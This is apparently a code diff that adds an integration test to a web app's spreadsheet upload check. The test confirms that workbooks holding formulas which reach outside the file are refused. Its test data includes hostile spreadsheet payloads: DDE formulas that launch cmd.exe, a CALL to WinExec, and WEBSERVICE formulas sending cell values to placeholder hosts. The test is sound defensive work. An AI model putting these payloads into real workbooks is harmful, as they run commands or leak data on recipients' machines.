@@ -18,7 +18,8 @@ import { POST as postSubmission } from "@/app/api/v1/projects/[projectId]/reques
 import { POST as postDrawing } from "@/app/api/v1/projects/[projectId]/requests/[requestId]/drawings/route";
 import { callAction, callRoute, cookieFor, demoEmail, getFixture, linkToken, waitForEmail, type Fixture } from "./support/fixture";
 import { sampleAnalysisInput } from "./analysis-input-sample";
-import { fakeExecutable, truncatedZip, zipBomb } from "../unit/vendor-data/zip-fixtures";
+import yauzl from "yauzl";
+import { fakeExecutable, makeZip, truncatedZip, zipBomb } from "../unit/vendor-data/zip-fixtures";
 import { onePagePdf } from "../support/pdf-fixture";
 
 const REQUEST = "v1/projects/[projectId]/requests/[requestId]";
@@ -37,7 +38,7 @@ async function upload(handler: Handler, cookie: string | null, params: UploadPar
   const form = new FormData();
   form.append("file", new Blob([new Uint8Array(file)]), fileName);
   for (const [k, v] of Object.entries(fields)) form.append(k, v);
-  const headers: Record<string, string> = { host: "127.0.0.1:3100" };
+  const headers: Record<string, string> = { host: "127.0.0.1:3100", origin: "http://127.0.0.1:3100" };
   if (cookie) headers.cookie = cookie;
   return handler(new Request("http://127.0.0.1:3100/api/upload", { method: "POST", headers, body: form }), { params: Promise.resolve(params) });
 }
@@ -62,6 +63,20 @@ async function fill(bytes: Buffer, change: (wb: ExcelJS.Workbook) => void): Prom
   await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
   change(wb);
   return Buffer.from(await wb.xlsx.writeBuffer());
+}
+
+/** Rewrites parts of an .xlsx package where exceljs cannot write what a hostile file holds. */
+async function editZip(bytes: Buffer, change: (parts: Map<string, Buffer>) => void): Promise<Buffer> {
+  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
+  const parts = new Map<string, Buffer>();
+  for await (const entry of zip.eachEntry()) {
+    const chunks: Buffer[] = [];
+    for await (const c of await zip.openReadStreamPromise(entry)) chunks.push(c as Buffer);
+    parts.set(entry.fileName, Buffer.concat(chunks));
+  }
+  zip.close();
+  change(parts);
+  return makeZip([...parts].map(([name, data]) => ({ name, data })));
 }
 
 function sheet(wb: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
@@ -214,6 +229,68 @@ describe("refused uploads store nothing and name the problem", () => {
     });
     await expectRefused(await uploadData(fx.cookies.vendor, negative), 400, /must be greater than 0/, { sheet: "Machine 1", cell: `C${machineFieldRow("mass")}` });
     expect(await submissionCount()).toBe(before);
+  });
+
+  it("refuses formulas that reach outside the file, by sheet and cell, even with a saved value; formulas within the file pass", async () => {
+    const before = await submissionCount();
+    const base = await downloadWorkbook(fx.cookies.vendor);
+    const massCell = `C${machineFieldRow("mass")}`;
+    const cases: { formula: string; result: number | string; sheet: string; cell: string; why: RegExp }[] = [
+      { formula: "cmd|' /C calc'!A0", result: 6000, sheet: "Machine 1", cell: massCell, why: /DDE link/ },
+      { formula: '_xlfn.WEBSERVICE("http://collector.invalid/?m="&C5)', result: 6000, sheet: "Machine 1", cell: massCell, why: /WEBSERVICE/ },
+      { formula: '_xlfn.FILTERXML("<a>6000</a>","//a")', result: 6000, sheet: "Machine 1", cell: massCell, why: /FILTERXML/ },
+      { formula: "'[vendor-master.xlsx]Masses'!B4", result: 6000, sheet: "Machine 1", cell: massCell, why: /another workbook/ },
+      { formula: "'C:\\data\\[x.xlsx]Sheet1'!A1", result: 6000, sheet: "Machine 1", cell: massCell, why: /another workbook/ },
+      { formula: 'RTD("vendor.feed",,"mass")', result: 6000, sheet: "Machine 1", cell: massCell, why: /RTD/ },
+      { formula: 'CALL("kernel32","WinExec","JCJ","calc",0)', result: 0, sheet: "Machine 1", cell: "F40", why: /CALL/ },
+      { formula: 'REGISTER.ID("x","y")', result: 0, sheet: "Machine 1", cell: "H2", why: /REGISTER\.ID/ },
+      { formula: '_xlfn.IMPORTXML("http://x.invalid","//a")', result: 0, sheet: "Machine 1", cell: "E3", why: /IMPORTXML/ },
+      { formula: 'INDIRECT("\'[other.xlsx]S\'!A1")', result: 0, sheet: "Machine 1", cell: "E4", why: /INDIRECT/ },
+      // Outside the cells the desk reads, and on a sheet it does not read at all.
+      { formula: 'HYPERLINK("http://x.invalid/collect","open the drawing")', result: "open the drawing", sheet: "Read me", cell: "D1", why: /HYPERLINK/ },
+    ];
+    for (const c of cases) {
+      const bytes = await fill(base, (wb) => {
+        sheet(wb, c.sheet).getCell(c.cell).value = { formula: c.formula, result: c.result };
+      });
+      await expectRefused(await uploadData(fx.cookies.vendor, bytes), 400, c.why, { sheet: c.sheet, cell: c.cell });
+    }
+    // A shared formula: every cell that shares the master's text is named.
+    const shared = await fill(base, (wb) => {
+      const ws = sheet(wb, "Machine 1");
+      ws.getCell("G10").value = { formula: 'WEBSERVICE("http://x.invalid/"&A10)', result: "x", shareType: "shared", ref: "G10:G11" } as ExcelJS.CellValue;
+      ws.getCell("G11").value = { sharedFormula: "G10", result: "x" } as ExcelJS.CellValue;
+    });
+    await expectRefused(await uploadData(fx.cookies.vendor, shared), 400, /WEBSERVICE/, { sheet: "Machine 1", cell: "G11" });
+    // What exceljs cannot write: a defined name standing for a web call, a raw DDE <f>, and an externalLinks part.
+    const definedName = await editZip(base, (parts) => {
+      const xml = parts.get("xl/workbook.xml")!.toString("utf8");
+      const names = '<definedName name="Rate">_xlfn.WEBSERVICE(&quot;http://x.invalid&quot;)</definedName>';
+      parts.set("xl/workbook.xml", Buffer.from(xml.includes("<definedNames>") ? xml.replace("<definedNames>", `<definedNames>${names}`) : xml.replace("</sheets>", `</sheets><definedNames>${names}</definedNames>`)));
+    });
+    await expectRefused(await uploadData(fx.cookies.vendor, definedName), 400, /defined name "Rate" holds the function WEBSERVICE/);
+    const rawDde = await editZip(await fill(base, (wb) => {
+      sheet(wb, "Machine 1").getCell(massCell).value = { formula: "1+1", result: 6000 };
+    }), (parts) => {
+      const name = [...parts.keys()].find((k) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k) && parts.get(k)!.toString("utf8").includes("<f>1+1</f>"))!;
+      parts.set(name, Buffer.from(parts.get(name)!.toString("utf8").replace("<f>1+1</f>", "<f>msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!_xlbgnm.A1</f>")));
+    });
+    await expectRefused(await uploadData(fx.cookies.vendor, rawDde), 400, /DDE link/, { sheet: "Machine 1", cell: massCell });
+    const externalLink = await editZip(base, (parts) => {
+      parts.set("xl/externalLinks/externalLink1.xml", Buffer.from('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /C calc"/></externalLink>'));
+    });
+    await expectRefused(await uploadData(fx.cookies.vendor, externalLink), 400, /links to other workbooks/);
+    expect(await submissionCount()).toBe(before);
+    // Formulas within the file are still read by their saved value.
+    const inside = await fill(base, (wb) => {
+      const ws = sheet(wb, "Machine 1");
+      const mass = ws.getCell(massCell).value as number;
+      ws.getCell("F40").value = mass / 2;
+      ws.getCell(massCell).value = { formula: "F40*2", result: mass };
+    });
+    const ok = await uploadData(fx.cookies.vendor, inside);
+    expect(ok.status, await ok.clone().text()).toBe(201);
+    expect(await submissionCount()).toBe(before + 1);
   });
 
   it("refuses a workbook of 100 000 rows quickly, before parsing it", async () => {
